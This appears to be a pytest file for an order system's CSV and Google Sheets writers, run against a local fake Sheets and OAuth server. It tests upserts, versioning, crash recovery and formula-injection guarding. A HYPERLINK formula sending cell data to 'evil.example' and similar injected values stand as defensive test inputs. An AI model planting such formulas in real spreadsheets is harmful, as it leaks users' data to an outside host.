"""Sheet backends (SPEC §10): the CSV file under a lock, and Google Sheets v4 over HTTP.

The Google tests run the real google-api-python-client and google-auth against a local
HTTP server that speaks the subset of Sheets v4 orderhub uses (values.get/batchGet,
values.batchUpdate, spreadsheets.get) on an in-memory 2-D grid, plus the OAuth token
endpoint of a service account (JWT bearer grant, signature checked with the throwaway
key's public half).
"""

from __future__ import annotations

import asyncio
import csv
import json
import re
import socket
import threading
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, unquote, urlsplit

import jwt
import pytest

from orderhub.delivery.integrations.base import (
    SHEET_COLUMNS,
    DeliveryMessage,
    PermanentDeliveryError,
    SheetRow,
    TransientDeliveryError,
    sheet_row,
)
from orderhub.delivery.integrations.sheets.csv import CsvSheetWriter
from orderhub.delivery.integrations.sheets.google import (
    GoogleSheetWriter,
    column_letter,
    quote_sheet,
)
from tests.fixtures.orders import api_order
from tests.fixtures.peers import (
    GOOGLE_CLIENT_EMAIL,
    QuietHandler,
    rsa_key_pair,
    write_service_account,
)

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'


def order(order_id: str | None = None, **changes: Any) -> dict[str, Any]:
    """An order as the API presents it (`OrderOut`)."""
    return api_order(order_id, **changes)


def row(order_id: str, version: int, **changes: Any) -> SheetRow:
    message = DeliveryMessage(
        delivery_id=str(uuid.uuid4()),
        event_id=str(uuid.uuid4()),
        event_type="order.updated",
        occurred_at=datetime(2025, 11, 29, 10, 30, tzinfo=UTC),
        order=order(order_id, **changes),
        order_version=version,
    )
    return sheet_row(message)


def new_id() -> str:
    return str(uuid.uuid4())


# ======================================================================================
# CSV
# ======================================================================================


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def by_id(records: list[list[str]]) -> dict[str, list[str]]:
    return {r[0]: r for r in records[1:]}


@pytest.fixture
def csv_path(tmp_path: Path) -> Path:
    return tmp_path / "data" / "sheets" / "orders.csv"


async def test_csv_header_and_rows(csv_path: Path) -> None:
    writer = CsvSheetWriter(csv_path)
    a, b = new_id(), new_id()
    await writer.upsert([row(a, 1), row(b, 1, customerName="Jane Roe", trackingNumber="1Z9")])

    records = read_csv(csv_path)
    assert records[0] == list(SHEET_COLUMNS)
    assert [r[0] for r in records[1:]] == [a, b]
    first = dict(zip(SHEET_COLUMNS, records[1], strict=True))
    assert first["Customer Name"] == "John Doe"
    assert first["Email"] == "john.doe@example.com"
    assert json.loads(first["Items"])[0]["name"] == "Product A"
    assert first["Total"] == "109.97"
    assert first["Tracking Number"] == ""
    assert first["Version"] == "1"
    assert dict(zip(SHEET_COLUMNS, records[2], strict=True))["Tracking Number"] == "1Z9"
    # one atomic rewrite: no temp file left behind
    assert sorted(p.name for p in csv_path.parent.iterdir()) == ["orders.csv", "orders.csv.lock"]


async def test_csv_upsert_by_order_id_in_place(csv_path: Path) -> None:
    writer = CsvSheetWriter(csv_path)
    a, b = new_id(), new_id()
    await writer.upsert([row(a, 1), row(b, 1)])
    await writer.upsert([row(a, 2, status="processing", paymentStatus="completed")])

    records = read_csv(csv_path)
    assert [r[0] for r in records[1:]] == [a, b]  # same position
    assert by_id(records)[a][SHEET_COLUMNS.index("Status")] == "processing"
    assert by_id(records)[a][-1] == "2"
    assert by_id(records)[b][-1] == "1"


async def test_csv_older_version_never_replaces_and_equal_puts_an_edited_row_right(
    csv_path: Path,
) -> None:
    writer = CsvSheetWriter(csv_path)
    a = new_id()
    await writer.upsert([row(a, 3, status="shipped")])
    before = csv_path.stat()
    content = csv_path.read_bytes()

    await writer.upsert([row(a, 2, status="processing")])  # older
    await writer.upsert([row(a, 3, status="shipped")])  # equal and the same: a no-op
    assert csv_path.read_bytes() == content
    assert csv_path.stat().st_ino == before.st_ino  # not even rewritten
    assert by_id(read_csv(csv_path))[a][SHEET_COLUMNS.index("Status")] == "shipped"
    # the same version with other cells (the row was edited by hand): the store wins
    await writer.upsert([row(a, 3, status="delivered")])
    assert by_id(read_csv(csv_path))[a][SHEET_COLUMNS.index("Status")] == "delivered"


async def test_csv_retried_batch_never_adds_a_row(csv_path: Path) -> None:
    writer = CsvSheetWriter(csv_path)
    batch = [row(new_id(), 1), row(new_id(), 2), row(new_id(), 1)]
    for _ in range(3):
        await writer.upsert(batch)
    # a second writer (another process) retries it too
    await CsvSheetWriter(csv_path).upsert(list(reversed(batch)))
    records = read_csv(csv_path)
    assert len(records) == 1 + 3
    assert [r[0] for r in records[1:]] == [r.order_id for r in batch]


async def test_csv_batch_with_several_versions_of_one_order_keeps_the_latest(
    csv_path: Path,
) -> None:
    writer = CsvSheetWriter(csv_path)
    a = new_id()
    await writer.upsert([row(a, 1), row(a, 3, status="shipped"), row(a, 2, status="paid")])
    records = read_csv(csv_path)
    assert len(records) == 2
    assert records[1][-1] == "3"
    assert records[1][SHEET_COLUMNS.index("Status")] == "shipped"


async def test_csv_formula_injection_guarded(csv_path: Path) -> None:
    writer = CsvSheetWriter(csv_path)
    a, b = new_id(), new_id()
    await writer.upsert(
        [
            row(a, 1, customerName=HYPERLINK, customerId="@SUM(1+1)", trackingNumber="-2+3"),
            row(b, 1, customerName="\tTabby", customerId="+cmd", trackingNumber="\rCR"),
        ]
    )
    records = by_id(read_csv(csv_path))
    name, customer, tracking = (
        SHEET_COLUMNS.index("Customer Name"),
        SHEET_COLUMNS.index("Customer ID"),
        SHEET_COLUMNS.index("Tracking Number"),
    )
    assert records[a][name] == "'" + HYPERLINK
    assert records[a][customer] == "'@SUM(1+1)"
    assert records[a][tracking] == "'-2+3"
    assert records[b][name] == "'\tTabby"
    assert records[b][customer] == "'+cmd"
    assert records[b][tracking] == "'\rCR"
    # harmless text is left alone; id and version are read back exactly
    assert records[a][SHEET_COLUMNS.index("Email")] == "john.doe@example.com"
    assert records[a][-1] == "1"

    # a later version still finds the row by its (true) order id and replaces it
    await writer.upsert([row(a, 2, customerName="=1+1")])
    records2 = read_csv(csv_path)
    assert len(records2) == 3
    assert by_id(records2)[a][name] == "'=1+1"
    assert by_id(records2)[a][-1] == "2"


async def test_csv_concurrent_upserts_end_consistent(csv_path: Path) -> None:
    ids = [new_id() for _ in range(6)]
    expected = {order_id: 0 for order_id in ids}
    batches: list[list[SheetRow]] = []
    for version in range(1, 6):
        for i in range(0, len(ids), 2):
            batch = [
                row(order_id, version, customerName=f"v{version}") for order_id in ids[i : i + 3]
            ]
            batches.append(batch)
            for r in batch:
                expected[r.order_id] = max(expected[r.order_id], r.version)
    batches.reverse()  # the older versions land last

    shared = CsvSheetWriter(csv_path)

    async def in_tasks() -> None:
        await asyncio.gather(*(shared.upsert(b) for b in batches))

    def in_threads() -> None:  # separate writers: what separate processes would do
        def work(chunk: list[list[SheetRow]]) -> None:
            writer = CsvSheetWriter(csv_path)
            for b in chunk:
                asyncio.run(writer.upsert(b))

        threads = [threading.Thread(target=work, args=(batches[i::4],)) for i in range(4)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()

    await asyncio.gather(in_tasks(), asyncio.to_thread(in_threads))

    records = read_csv(csv_path)
    assert records[0] == list(SHEET_COLUMNS)
    assert len(records) == 1 + len(ids)
    assert sorted(r[0] for r in records[1:]) == sorted(ids)
    for record in records[1:]:
        assert int(record[-1]) == expected[record[0]] == 5
        assert record[SHEET_COLUMNS.index("Customer Name")] == "v5"


async def test_csv_keeps_rows_it_did_not_write_and_quoted_cells(csv_path: Path) -> None:
    writer = CsvSheetWriter(csv_path)
    a = new_id()
    await writer.upsert([row(a, 1, customerName='Multi\nLine, "quoted"')])
    b = new_id()
    await writer.upsert([row(b, 1)])
    records = by_id(read_csv(csv_path))
    assert records[a][SHEET_COLUMNS.index("Customer Name")] == 'Multi\nLine, "quoted"'
    assert set(records) == {a, b}


async def test_csv_new_rows_are_appended_without_rewriting_the_sheet(csv_path: Path) -> None:
    writer = CsvSheetWriter(csv_path)
    first = [row(new_id(), 1) for _ in range(3)]
    await writer.upsert(first)
    before, inode = csv_path.read_bytes(), csv_path.stat().st_ino
    later = row(new_id(), 1)
    await writer.upsert([later])
    assert csv_path.stat().st_ino == inode
    assert csv_path.read_bytes().startswith(before)
    assert [r[0] for r in read_csv(csv_path)[1:]] == [r.order_id for r in [*first, later]]


async def test_csv_update_rewrites_from_its_row_on_and_keeps_the_order(csv_path: Path) -> None:
    writer = CsvSheetWriter(csv_path)
    ids = [new_id() for _ in range(4)]
    await writer.upsert([row(i, 1) for i in ids])
    head = csv_path.read_bytes().split(ids[2].encode())[0]
    await writer.upsert([row(ids[2], 2, status="paid"), row(new_id(), 1)])
    assert csv_path.read_bytes().startswith(head)
    records = read_csv(csv_path)
    assert [r[0] for r in records[1:5]] == ids and len(records) == 6
    assert by_id(records)[ids[2]][SHEET_COLUMNS.index("Status")] == "paid"
    assert by_id(records)[ids[2]][-1] == "2"
    assert by_id(records)[ids[3]][-1] == "1"


async def test_csv_sees_what_another_writer_changed_between_batches(csv_path: Path) -> None:
    mine, other = CsvSheetWriter(csv_path), CsvSheetWriter(csv_path)
    a, b = new_id(), new_id()
    await mine.upsert([row(a, 1)])
    await other.upsert([row(b, 1), row(a, 2, status="paid")])
    await mine.upsert([row(a, 2, status="pending"), row(b, 3, status="shipped")])
    rows = read_csv(csv_path)[1:]
    records = by_id(read_csv(csv_path))
    assert sorted(r[0] for r in rows) == sorted([a, b])  # one row each, none torn
    # the same version with other cells is taken as a correction (what a resync sends)
    assert records[a][SHEET_COLUMNS.index("Status")] == "pending"
    assert records[b][SHEET_COLUMNS.index("Status")] == "shipped"


async def test_csv_appends_after_a_last_line_without_newline(csv_path: Path) -> None:
    a = new_id()
    await CsvSheetWriter(csv_path).upsert([row(a, 1)])
    csv_path.write_bytes(csv_path.read_bytes().rstrip(b"\r\n"))  # as an editor may save it
    b = new_id()
    await CsvSheetWriter(csv_path).upsert([row(b, 1)])
    records = read_csv(csv_path)
    assert [r[0] for r in records[1:]] == [a, b]
    assert all(len(r) == len(SHEET_COLUMNS) for r in records)


async def test_csv_batch_cut_short_by_a_crash_is_rolled_back(csv_path: Path) -> None:
    writer = CsvSheetWriter(csv_path)
    ids = [new_id() for _ in range(3)]
    await writer.upsert([row(i, 1) for i in ids])
    good = csv_path.read_bytes()
    # A crash in the middle of a batch: the journal says what the batch replaced (from
    # the second row on), and the file holds half of the new bytes.
    start = good.index(ids[1].encode())
    journal = Path(f"{csv_path}.journal")
    journal.write_bytes(f"{start} {len(good) - start}\n".encode() + good[start:])
    csv_path.write_bytes(good[:start] + b'"' + ids[1].encode() + b'",half a ro')
    late = new_id()
    await CsvSheetWriter(csv_path).upsert([row(late, 1)])
    assert not journal.exists()
    assert [r[0] for r in read_csv(csv_path)[1:]] == [*ids, late]
    assert csv_path.read_bytes().startswith(good)


async def test_csv_journal_cut_short_leaves_the_sheet_as_it_was(csv_path: Path) -> None:
    writer = CsvSheetWriter(csv_path)
    a = new_id()
    await writer.upsert([row(a, 1)])
    good = csv_path.read_bytes()
    journal = Path(f"{csv_path}.journal")
    journal.write_bytes(f"{len(good) - 10} 10\n".encode() + good[-10:-4])  # 6 of 10 bytes
    b = new_id()
    await CsvSheetWriter(csv_path).upsert([row(b, 1)])
    assert not journal.exists()
    assert [r[0] for r in read_csv(csv_path)[1:]] == [a, b]


async def test_csv_empty_batch_is_a_no_op(csv_path: Path) -> None:
    await CsvSheetWriter(csv_path).upsert([])
    assert not csv_path.exists()


async def test_csv_probe(tmp_path: Path) -> None:
    await CsvSheetWriter(tmp_path / "sheets" / "orders.csv").probe()
    blocker = tmp_path / "not-a-dir"
    blocker.write_text("x")
    with pytest.raises(OSError):
        await CsvSheetWriter(blocker / "sheets" / "orders.csv").probe()


async def test_csv_lock_timeout_is_transient(csv_path: Path) -> None:
    import filelock

    csv_path.parent.mkdir(parents=True)
    writer = CsvSheetWriter(csv_path, lock_timeout=0.2)
    holder = filelock.FileLock(f"{csv_path}.lock")

    held, done = threading.Event(), threading.Event()

    def hold() -> None:
        with holder:
            held.set()
            done.wait(10)

    thread = threading.Thread(target=hold)
    thread.start()
    assert held.wait(10)
    try:
        with pytest.raises(TransientDeliveryError):
            await writer.upsert([row(new_id(), 1)])
    finally:
        done.set()
        thread.join()
    await writer.upsert([row(new_id(), 1)])


# ======================================================================================
# Google Sheets: a local Sheets v4 + OAuth token server
# ======================================================================================

_A1 = re.compile(r"^(?:'((?:[^']|'')*)'|([^'!]+))!([A-Z]+)(\d*)(?::([A-Z]+)(\d*))?$")
JWT_BEARER = "urn:ietf:params:oauth:grant-type:jwt-bearer"


def _col_index(letters: str) -> int:
    n = 0
    for ch in letters:
        n = n * 26 + (ord(ch) - ord("A") + 1)
    return n - 1


@dataclass
class Fault:
    status: int = 500
    headers: dict[str, str] = field(default_factory=dict)
    delay: float = 0.0
    path: str = ""  # only requests whose path contains this
    times: int = 1


@dataclass
class Recorded:
    method: str
    path: str
    query: dict[str, list[str]]
    body: Any


class FakeGoogleSheets:
    """Sheets v4 subset + the service account's token endpoint, on 127.0.0.1."""

    def __init__(self, spreadsheet_id: str, public_key: bytes, client_email: str) -> None:
        self.spreadsheet_id = spreadsheet_id
        self.public_key = public_key
        self.client_email = client_email
        self.sheets: dict[str, list[list[Any]]] = {"Orders": []}
        self.requests: list[Recorded] = []
        self.faults: list[Fault] = []
        self.tokens: set[str] = set()
        self.token_requests = 0
        self.token_error: tuple[int, dict[str, Any]] | None = None
        self.lock = threading.Lock()
        fake = self

        class Handler(QuietHandler):
            def do_GET(self) -> None:
                fake.handle(self, "GET")

            def do_POST(self) -> None:
                fake.handle(self, "POST")

        self.server = _QuietServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.token_uri = f"{self.url}/token"
        self.thread = threading.Thread(
            target=self.server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True
        )

    # -- test helpers ---------------------------------------------------------------

    def start(self) -> None:
        self.thread.start()

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()

    def fail(self, status: int = 500, **kwargs: Any) -> None:
        self.faults.append(Fault(status=status, **kwargs))

    def grid(self, sheet: str = "Orders") -> list[list[Any]]:
        """The sheet as Google returns it: trailing empty cells and rows trimmed."""
        rows = [_trim(list(r)) for r in self.sheets[sheet]]
        while rows and not rows[-1]:
            rows.pop()
        return rows

    def batch_updates(self) -> list[Any]:
        return [r.body for r in self.requests if r.path.endswith("values:batchUpdate")]

    def api_requests(self) -> list[Recorded]:
        return [r for r in self.requests if r.path != "/token"]

    # -- protocol -------------------------------------------------------------------

    def handle(self, h: BaseHTTPRequestHandler, method: str) -> None:
        parts = urlsplit(h.path)
        length = int(h.headers.get("Content-Length") or 0)
        raw = h.rfile.read(length) if length else b""
        if parts.path == "/token":
            self._token(h, raw)
            return
        body: Any = json.loads(raw) if raw else None
        query = parse_qs(parts.query)
        with self.lock:
            self.requests.append(Recorded(method, unquote(parts.path), query, body))
            fault = next((f for f in self.faults if f.path in parts.path), None)
            if fault is not None:
                fault.times -= 1
                if fault.times <= 0:
                    self.faults.remove(fault)
        if fault is not None:
            if fault.delay:
                time.sleep(fault.delay)
            if fault.status:
                self._error(h, fault.status, "injected", fault.headers)
                return
        auth = h.headers.get("Authorization", "")
        if not auth.startswith("Bearer ") or auth[7:] not in self.tokens:
            self._error(h, 401, "Request had invalid authentication credentials.")
            return
        try:
            status, answer = self._api(method, unquote(parts.path), query, body)
        except _ApiError as exc:
            self._error(h, exc.status, exc.message)
            return
        self._send(h, status, answer)

    def _token(self, h: BaseHTTPRequestHandler, raw: bytes) -> None:
        self.token_requests += 1
        form = {k: v[0] for k, v in parse_qs(raw.decode()).items()}
        if self.token_error is not None:
            self._send(h, *self.token_error)
            return
        if form.get("grant_type") != JWT_BEARER:
            self._send(h, 400, {"error": "unsupported_grant_type"})
            return
        try:
            claims = jwt.decode(
                form.get("assertion", ""),
                self.public_key,
                algorithms=["RS256"],
                # google-auth always names Google's token endpoint as the audience
                audience=[self.token_uri, "https://oauth2.googleapis.com/token"],
            )
        except jwt.PyJWTError as exc:
            self._send(h, 400, {"error": "invalid_grant", "error_description": str(exc)})
            return
        if claims.get("iss") != self.client_email or "spreadsheets" not in claims.get("scope", ""):
            self._send(h, 400, {"error": "invalid_grant", "error_description": "bad claims"})
            return
        token = f"ya29.{uuid.uuid4().hex}"
        self.tokens.add(token)
        self._send(h, 200, {"access_token": token, "expires_in": 3599, "token_type": "Bearer"})

    def _api(
        self, method: str, path: str, query: dict[str, list[str]], body: Any
    ) -> tuple[int, Any]:
        m = re.fullmatch(r"/v4/spreadsheets/([^/:]+)(.*)", path)
        if not m:
            raise _ApiError(404, "Not found")
        if m.group(1) != self.spreadsheet_id:
            raise _ApiError(404, "Requested entity was not found.")
        rest = m.group(2)
        with self.lock:
            if method == "GET" and rest == "":
                return 200, {"spreadsheetId": self.spreadsheet_id}
            if method == "GET" and rest == "/values:batchGet":
                major = query.get("majorDimension", ["ROWS"])[0]
                return 200, {
                    "spreadsheetId": self.spreadsheet_id,
                    "valueRanges": [self._read(r, major) for r in query.get("ranges", [])],
                }
            if method == "GET" and rest.startswith("/values/"):
                major = query.get("majorDimension", ["ROWS"])[0]
                return 200, self._read(rest[len("/values/") :], major)
            if method == "POST" and rest == "/values:batchUpdate":
                if body.get("valueInputOption") not in ("RAW", "USER_ENTERED"):
                    raise _ApiError(400, "Invalid valueInputOption")
                cells = 0
                for data in body.get("data", []):
                    cells += self._write(data["range"], data["values"])
                return 200, {"spreadsheetId": self.spreadsheet_id, "totalUpdatedCells": cells}
        raise _ApiError(404, "Not found")

    def _parse(self, a1: str) -> tuple[list[list[Any]], int, int, int, int | None]:
        m = _A1.match(a1)
        if not m:
            raise _ApiError(400, f"Unable to parse range: {a1}")
        name = m.group(1).replace("''", "'") if m.group(1) is not None else m.group(2)
        if name not in self.sheets:
            raise _ApiError(400, f"Unable to parse range: {a1}")
        c1 = _col_index(m.group(3))
        r1 = int(m.group(4)) - 1 if m.group(4) else 0
        if m.group(5) is None:  # "A5" (one cell) or "A" (a whole column)
            c2, r2 = c1, (r1 if m.group(4) else None)
        else:  # "A2:M9", "A:A", "A2:M"
            c2 = _col_index(m.group(5))
            r2 = int(m.group(6)) - 1 if m.group(6) else None
        return self.sheets[name], c1, r1, c2, r2

    def _read(self, a1: str, major: str) -> dict[str, Any]:
        grid, c1, r1, c2, r2 = self._parse(a1)
        last = len(grid) - 1 if r2 is None else min(r2, len(grid) - 1)
        rows = [
            [grid[r][c] if c < len(grid[r]) else "" for c in range(c1, c2 + 1)]
            for r in range(r1, last + 1)
        ]
        if major == "COLUMNS":
            width = c2 - c1 + 1
            rows = [[r[i] for r in rows] for i in range(width)] if rows else []
        rows = [_trim(r) for r in rows]
        while rows and not rows[-1]:
            rows.pop()
        answer: dict[str, Any] = {"range": a1, "majorDimension": major}
        if rows:
            answer["values"] = rows
        return answer

    def _write(self, a1: str, values: list[list[Any]]) -> int:
        grid, c1, r1, c2, r2 = self._parse(a1)
        width = c2 - c1 + 1
        height = (r2 - r1 + 1) if r2 is not None else len(values)
        if len(values) > height or any(len(v) > width for v in values):
            raise _ApiError(400, f"Requested writing within range [{a1}], but tried beyond")
        for i, values_row in enumerate(values):
            r = r1 + i
            while len(grid) <= r:
                grid.append([])
            target = grid[r]
            for j, value in enumerate(values_row):
                c = c1 + j
                while len(target) <= c:
                    target.append("")
                if value is not None:
                    assert isinstance(value, str | int | float | bool)
                    target[c] = value
        return sum(len(v) for v in values)

    def _error(
        self,
        h: BaseHTTPRequestHandler,
        status: int,
        message: str,
        headers: dict[str, str] | None = None,
    ) -> None:
        statuses = {400: "INVALID_ARGUMENT", 401: "UNAUTHENTICATED", 403: "PERMISSION_DENIED"}
        statuses |= {404: "NOT_FOUND", 429: "RESOURCE_EXHAUSTED", 500: "INTERNAL"}
        body = {"error": {"code": status, "message": message, "status": statuses.get(status)}}
        self._send(h, status, body, headers)

    @staticmethod
    def _send(
        h: BaseHTTPRequestHandler,
        status: int,
        body: Any,
        headers: dict[str, str] | None = None,
    ) -> None:
        data = json.dumps(body).encode()
        h.send_response(status)
        h.send_header("Content-Type", "application/json; charset=UTF-8")
        h.send_header("Content-Length", str(len(data)))
        for k, v in (headers or {}).items():
            h.send_header(k, v)
        h.end_headers()
        h.wfile.write(data)


class _QuietServer(ThreadingHTTPServer):
    daemon_threads = True

    def handle_error(self, request: Any, client_address: Any) -> None:
        pass  # a client that gave up (timeout tests) breaks the pipe: expected


class _ApiError(Exception):
    def __init__(self, status: int, message: str) -> None:
        super().__init__(message)
        self.status = status
        self.message = message


def _trim(values: list[Any]) -> list[Any]:
    while values and values[-1] in ("", None):
        values.pop()
    return values


@pytest.fixture(scope="module")
def rsa_key() -> tuple[bytes, bytes]:
    return rsa_key_pair()


CLIENT_EMAIL = GOOGLE_CLIENT_EMAIL
SPREADSHEET = "1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789"


@pytest.fixture
def google(rsa_key: tuple[bytes, bytes]) -> Iterator[FakeGoogleSheets]:
    fake = FakeGoogleSheets(SPREADSHEET, rsa_key[1], CLIENT_EMAIL)
    fake.start()
    yield fake
    fake.stop()


@pytest.fixture
def credentials_file(tmp_path: Path, rsa_key: tuple[bytes, bytes], google: FakeGoogleSheets) -> str:
    return write_service_account(tmp_path / "service-account.json", rsa_key[0], google.token_uri)


def make_writer(
    google: FakeGoogleSheets, credentials_file: str, **kwargs: Any
) -> GoogleSheetWriter:
    kwargs.setdefault("api_base", google.url)
    kwargs.setdefault("timeout", 5.0)
    return GoogleSheetWriter(SPREADSHEET, credentials_file, **kwargs)


def closed_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def test_a1_helpers() -> None:
    assert [column_letter(i) for i in (0, 12, 25, 26, 27, 51, 52)] == [
        "A",
        "M",
        "Z",
        "AA",
        "AB",
        "AZ",
        "BA",
    ]
    assert quote_sheet("Orders") == "'Orders'"
    assert quote_sheet("Bob's orders") == "'Bob''s orders'"


async def test_google_rows_written_raw_with_header(
    google: FakeGoogleSheets, credentials_file: str
) -> None:
    writer = make_writer(google, credentials_file)
    a, b = new_id(), new_id()
    await writer.upsert([row(a, 1, customerName=HYPERLINK), row(b, 2)])

    grid = google.grid()
    assert grid[0] == list(SHEET_COLUMNS)
    assert [r[0] for r in grid[1:]] == [a, b]
    name = SHEET_COLUMNS.index("Customer Name")
    assert grid[1][name] == HYPERLINK  # RAW: stored as text, not parsed, not prefixed
    assert grid[1][-1] == 1 and grid[2][-1] == 2
    assert grid[1][SHEET_COLUMNS.index("Total")] == "109.97"

    updates = google.batch_updates()
    assert len(updates) == 1
    assert updates[0]["valueInputOption"] == "RAW"
    # authenticated with a token from the JWT bearer grant
    assert google.token_requests == 1
    reads = [r for r in google.api_requests() if r.method == "GET"]
    assert len(reads) == 1 and reads[0].path.endswith("values:batchGet")
    assert reads[0].query["ranges"] == ["'Orders'!A:M"]  # whole rows: cells are compared


async def test_google_upsert_updates_in_place_and_header_once(
    google: FakeGoogleSheets, credentials_file: str
) -> None:
    writer = make_writer(google, credentials_file)
    a, b, c = new_id(), new_id(), new_id()
    await writer.upsert([row(a, 1), row(b, 1)])
    await writer.upsert([row(b, 2, status="processing"), row(c, 1)])

    grid = google.grid()
    assert [r[0] for r in grid] == ["Order ID", a, b, c]
    assert grid[2][SHEET_COLUMNS.index("Status")] == "processing"
    assert grid[2][-1] == 2

    updates = google.batch_updates()
    assert len(updates) == 2  # one batchUpdate per upsert call
    ranges = [d["range"] for d in updates[1]["data"]]
    assert ranges == ["'Orders'!A3:M4"]  # b in place + c appended, merged; no header again
    assert all("A1:" not in d["range"] for d in updates[1]["data"])


async def test_google_older_version_ignored_and_equal_puts_an_edited_row_right(
    google: FakeGoogleSheets, credentials_file: str
) -> None:
    writer = make_writer(google, credentials_file)
    a = new_id()
    await writer.upsert([row(a, 5, status="shipped")])
    before = google.grid()
    await writer.upsert([row(a, 4, status="processing")])  # older
    await writer.upsert([row(a, 5, status="shipped")])  # equal and the same: a no-op
    assert google.grid() == before
    assert len(google.batch_updates()) == 1  # nothing to write, nothing sent
    # the same version with other cells (the row was edited by hand): the store wins
    await writer.upsert([row(a, 5, status="cancelled")])
    assert google.grid()[1][SHEET_COLUMNS.index("Status")] == "cancelled"
    assert len(google.batch_updates()) == 2


async def test_google_hand_edited_row_of_the_same_version_is_rewritten(
    google: FakeGoogleSheets, credentials_file: str
) -> None:
    writer = make_writer(google, credentials_file)
    ids = [new_id() for _ in range(3)]
    batch = [row(i, 1) for i in ids]
    await writer.upsert(batch)
    expected = google.grid()
    sheet = google.sheets["Orders"]
    status, total = SHEET_COLUMNS.index("Status"), SHEET_COLUMNS.index("Total")
    sheet[2][status] = "EDITED"  # a cell typed over by hand
    sheet[3][total] = 109.97  # the same amount, but a number where a string was written
    sheet[3].append("a note")  # beyond the last column: not orderhub's to touch

    await make_writer(google, credentials_file).upsert(batch)  # what a resync sends
    grid = google.grid()
    assert grid[:3] == expected[:3]
    assert grid[3] == [*expected[3], "a note"]
    assert grid[3][total] == "109.97"
    updates = google.batch_updates()
    assert len(updates) == 2
    assert [d["range"] for d in updates[1]["data"]] == ["'Orders'!A3:M4"]  # only those rows

    await writer.upsert(batch)  # a retried batch: nothing differs, nothing is sent
    assert len(google.batch_updates()) == 2
    assert google.grid() == grid


async def test_google_row_copied_by_hand_is_cleared(
    google: FakeGoogleSheets, credentials_file: str
) -> None:
    writer = make_writer(google, credentials_file)
    a, b = new_id(), new_id()
    await writer.upsert([row(a, 1), row(b, 1)])
    expected = google.grid()
    google.sheets["Orders"].append(list(google.sheets["Orders"][1]))  # a's row copied below
    await writer.upsert([row(a, 1), row(b, 1)])
    assert google.grid() == expected  # the copy blanked, the original kept
    updates = google.batch_updates()
    assert len(updates) == 2
    assert updates[1]["data"] == [
        {"range": "'Orders'!A4:M4", "majorDimension": "ROWS", "values": [[""] * 13]}
    ]


async def test_google_retried_batch_never_adds_a_row(
    google: FakeGoogleSheets, credentials_file: str
) -> None:
    batch = [row(new_id(), 1), row(new_id(), 1), row(new_id(), 3)]
    await make_writer(google, credentials_file).upsert(batch)
    await make_writer(google, credentials_file).upsert(batch)
    assert len(google.grid()) == 4


async def test_google_batch_with_several_versions_of_one_order(
    google: FakeGoogleSheets, credentials_file: str
) -> None:
    writer = make_writer(google, credentials_file)
    a = new_id()
    await writer.upsert([row(a, 2, status="paid"), row(a, 3, status="shipped"), row(a, 1)])
    grid = google.grid()
    assert len(grid) == 2
    assert grid[1][-1] == 3
    assert grid[1][SHEET_COLUMNS.index("Status")] == "shipped"


async def test_google_large_batches_are_chunked(
    google: FakeGoogleSheets, credentials_file: str
) -> None:
    writer = make_writer(google, credentials_file, max_rows_per_request=4)
    rows = [row(new_id(), 1) for _ in range(10)]
    await writer.upsert(rows)
    updates = google.batch_updates()
    # 11 rows (header + 10) in requests of at most 4 rows
    assert len(updates) == 3
    for update in updates:
        assert update["valueInputOption"] == "RAW"
        count = sum(len(d["values"]) for d in update["data"])
        assert count <= 4
    assert [r[0] for r in google.grid()[1:]] == [r.order_id for r in rows]
    reads = [r for r in google.api_requests() if r.method == "GET"]
    assert len(reads) == 1  # one read for the whole batch


async def test_google_default_chunk_is_500_rows(
    google: FakeGoogleSheets, credentials_file: str
) -> None:
    writer = make_writer(google, credentials_file)
    await writer.upsert([row(new_id(), 1) for _ in range(600)])
    updates = google.batch_updates()
    assert [sum(len(d["values"]) for d in u["data"]) for u in updates] == [500, 101]
    assert len(google.grid()) == 601


async def test_google_duplicate_rows_are_healed(
    google: FakeGoogleSheets, credentials_file: str
) -> None:
    writer = make_writer(google, credentials_file)
    a, b = new_id(), new_id()
    old = [a, *[""] * 11, 1]
    newer = [a, *[""] * 11, 2]
    google.sheets["Orders"] = [list(SHEET_COLUMNS), old, [b, *[""] * 11, 1], newer]
    await writer.upsert([row(a, 3, status="shipped")])
    grid = google.sheets["Orders"]
    assert _trim(list(grid[1])) == []  # the older duplicate blanked
    assert grid[3][0] == a and grid[3][-1] == 3  # the newest copy updated in place
    assert [r[0] for r in google.grid() if r] == ["Order ID", b, a]


async def test_google_concurrent_upserts_from_tasks(
    google: FakeGoogleSheets, credentials_file: str
) -> None:
    writer = make_writer(google, credentials_file)
    ids = [new_id() for _ in range(5)]
    batches = [[row(i, v) for i in ids] for v in (3, 1, 2, 3, 1)]
    await asyncio.gather(*(writer.upsert(b) for b in batches))
    grid = google.grid()
    assert grid[0] == list(SHEET_COLUMNS)
    assert sorted(r[0] for r in grid[1:]) == sorted(ids)
    assert all(r[-1] == 3 for r in grid[1:])


async def test_google_probe(google: FakeGoogleSheets, credentials_file: str) -> None:
    await make_writer(google, credentials_file).probe()
    request = google.api_requests()[-1]
    assert request.path == f"/v4/spreadsheets/{SPREADSHEET}"
    assert request.query["fields"] == ["spreadsheetId"]

    other = GoogleSheetWriter("missing", credentials_file, api_base=google.url, timeout=5)
    with pytest.raises(PermanentDeliveryError):
        await other.probe()


async def test_google_unknown_sheet_tab_is_permanent(
    google: FakeGoogleSheets, credentials_file: str
) -> None:
    writer = make_writer(google, credentials_file, sheet_name="Nope")
    with pytest.raises(PermanentDeliveryError, match="400"):
        await writer.upsert([row(new_id(), 1)])


@pytest.mark.parametrize(
    ("status", "kind"),
    [
        (500, TransientDeliveryError),
        (503, TransientDeliveryError),
        (429, TransientDeliveryError),
        (403, TransientDeliveryError),
        (409, TransientDeliveryError),
        (400, PermanentDeliveryError),
